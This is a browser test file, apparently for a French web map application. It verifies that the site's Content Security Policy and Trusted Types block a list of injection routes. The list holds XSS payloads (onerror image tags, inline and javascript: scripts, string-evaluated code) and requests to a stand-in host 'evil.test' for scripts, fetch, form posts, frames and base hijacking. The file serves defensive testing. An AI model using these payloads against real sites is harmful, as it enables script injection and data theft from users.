import { describe, expect, inject, it } from 'vitest';
import { visit, visitMap, withBrowser } from './driver.ts';

withBrowser();

const EXPECTED = { areViolationsExpected: true, expectedErrors: [/./] };

/** In the page: whether a script that came in by one of these ways has run. */
const hasRun = () => (window as { __pwned?: boolean }).__pwned === true;

/** Ways in, with what refuses each; run in the page, one after the other. */
const ATTACKS: [way: string, directive: RegExp, attack: () => void][] = [
  [
    'HTML of a text',
    /^require-trusted-types-for .*innerHTML/m,
    () => {
      document.createElement('div').innerHTML = '<img src=x onerror="window.__pwned = true">';
    },
  ],
  [
    'a script in the page',
    /^require-trusted-types-for .*HTMLScriptElement text/m,
    () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.__pwned = true' })),
  ],
  [
    'the text of a script, written as text',
    /^require-trusted-types-for|^script-src-elem inline/m,
    () => {
      const script = document.createElement('script');
      script.append('window.__pwned = true');
      document.body.append(script);
    },
  ],
  [
    'a handler in an attribute',
    /^require-trusted-types-for .*onerror/m,
    () => document.createElement('img').setAttribute('onerror', 'window.__pwned = true'),
  ],
  [
    'a javascript: link',
    /^(script-src|require-trusted-types-for)/m,
    () => {
      const link = Object.assign(document.createElement('a'), { href: 'javascript:void (window.__pwned = true)' });
      document.body.append(link);
      link.click();
    },
  ],
  [
    'a text that is run',
    /^(require-trusted-types-for|script-src) /m,
    () => void setTimeout('window.__pwned = true', 0),
  ],
  [
    'a script of another host',
    /^(require-trusted-types-for|script-src)/m,
    () => {
      const script = document.createElement('script');
      script.setAttribute('src', 'https://evil.test/x.js');
      document.body.append(script);
    },
  ],
  [
    'an image of another host',
    /^img-src https:\/\/evil.test/m,
    () => document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.test/x.png' })),
  ],
  [
    'data sent to another host',
    /^connect-src https:\/\/evil.test/m,
    () => void fetch('https://evil.test/').catch(() => undefined),
  ],
  [
    'a form to another host',
    /^form-action https:\/\/evil.test/m,
    () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.test/', method: 'post' });
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'a frame',
    /^frame-src /m,
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.test/' })),
  ],
  [
    'a base that moves every link',
    /^base-uri /m,
    () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.test/' })),
  ],
  ['a style in an attribute', /^style-src-attr /m, () => document.body.setAttribute('style', 'background: red')],
  ['another policy of Trusted Types', /^trusted-types /m, () => void window.trustedTypes?.createPolicy('mine', {})],
  [
    "a worker that is not the site's",
    /^require-trusted-types-for .*register/m,
    () => void navigator.serviceWorker.register('/assets/sw.js').catch(() => undefined),
  ],
];

describe('what the policy refuses', () => {
  it('each way in by which a script, a request or a style could come', async () => {
    const atlas = await visitMap('/', { ...EXPECTED, hasWorker: true });
    for (const [way, directive, attack] of ATTACKS) {
      atlas.violations.length = 0;
      const thrown = await atlas.page.evaluate(attack).then(
        () => '',
        (cause: unknown) => String(cause),
      );
      expect(thrown, way).toMatch(/^$|Trusted|Content Security Policy|disallowed/);
      await expect.poll(() => atlas.violations.join('\n'), { message: way }).toMatch(directive);
      expect(await atlas.page.evaluate(hasRun), way).toBe(false);
    }
  });

  it('to be framed by another page', async () => {
    const body = `<!doctype html><iframe src="${inject('siteAddress')}/label"></iframe>`;
    const atlas = await visit('/autre-site', {
      ...EXPECTED,
      answers: { '/autre-site': { body, contentType: 'text/html' } },
    });
    const frame = atlas.page.frames()[1]!;
    expect(await frame.locator('h1').count()).toBe(0);
  });
});

describe('a page of a host that sends no header', () => {
  it('has the policy in itself', async () => {
    const html = await (await fetch(`${inject('siteAddress')}/label`)).text();
    const atlas = await visit('/label', {
      ...EXPECTED,
      answers: { '/label': { body: html, contentType: 'text/html' } },
    });
    await atlas.page.getByRole('heading', { level: 1 }).waitFor();
    expect(atlas.violations).toEqual([]);
    await atlas.page.evaluate(() => void fetch('https://evil.test/').catch(() => undefined));
    await expect.poll(() => atlas.violations.join()).toMatch(/connect-src/);
  });
});

describe('the map under the policy', () => {
  it('goes deep and back over tiles that come and go, with nothing refused', async () => {
    const atlas = await visitMap('/?carte=48.1,-1.7,8');
    await atlas.button('Fond Plan IGN').click();
    await atlas.page.locator('.map[data-has-tiles]').waitFor();
    for (const name of ['Zoomer', 'Zoomer', 'Zoomer', 'Déplacer vers la gauche', 'Dézoomer', "Vue d'ensemble"]) {
      await atlas.button(name).click();
      await atlas.settle();
    }
    await atlas.button('Fond Plan IGN').click();
    await expect.poll(() => atlas.page.locator('.leaflet-tile').count()).toBe(0);
    expect(atlas.violations).toEqual([]);
  });
});
